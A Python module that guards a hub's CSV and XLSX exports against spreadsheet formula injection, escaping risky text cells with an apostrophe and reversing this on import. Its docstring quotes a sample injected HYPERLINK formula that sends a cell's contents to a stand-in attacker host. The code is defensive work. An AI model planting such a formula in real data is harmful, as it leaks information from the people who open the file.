"""Text for a spreadsheet cell that a spreadsheet never reads as a formula.

A CSV cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which
some spreadsheets skip) is taken for a formula by Excel, LibreOffice and Google Sheets when
the file is opened, and openpyxl stores an XLSX text starting with `=` as a formula:
`=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")` typed as an organisation's name
would become a live link in the coordinator's export. Every CSV and XLSX file the hub writes
passes its text cells through `neutralise_formula`, which puts an apostrophe before such
text (OWASP's advice against CSV injection); XLSX gets the same text as CSV.

A plain number written as text ("-12.5", "-12,5", "1e-05", and so a phone number in the
standard's form "+33612345678") is left alone: as a formula it is only that number, and
coordinates and phones must stay as they are. Values that are numbers (int, float, Decimal)
are not text and never pass here.

`unneutralise_formula` reads such a cell back (import-places reading a CSV file, ours or
another hub's): export → import → export writes the same file.

No Django here.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# An optional sign, digits with an optional decimal part (point or comma), an optional
# exponent: what a formula made of it evaluates to is that number, nothing else.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]+)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise_formula(text: str) -> str:
    """`text` with an apostrophe before it if a spreadsheet would read it as a formula.

    Idempotent (the result never starts with a formula character, or is a plain number),
    and the result never starts with `=` or `@`.
    """
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unneutralise_formula(text: str) -> str:
    """The text that `neutralise_formula` turned into `text` (or `text` itself).

    `neutralise_formula(unneutralise_formula(cell)) == cell` for every cell it writes, and
    `unneutralise_formula(neutralise_formula(text)) == text` for every text but one that
    already starts with an apostrophe before a formula character ("'=x" reads back "=x").
    """
    if text.startswith("'") and neutralise_formula(text[1:]) == text:
        return text[1:]
    return text
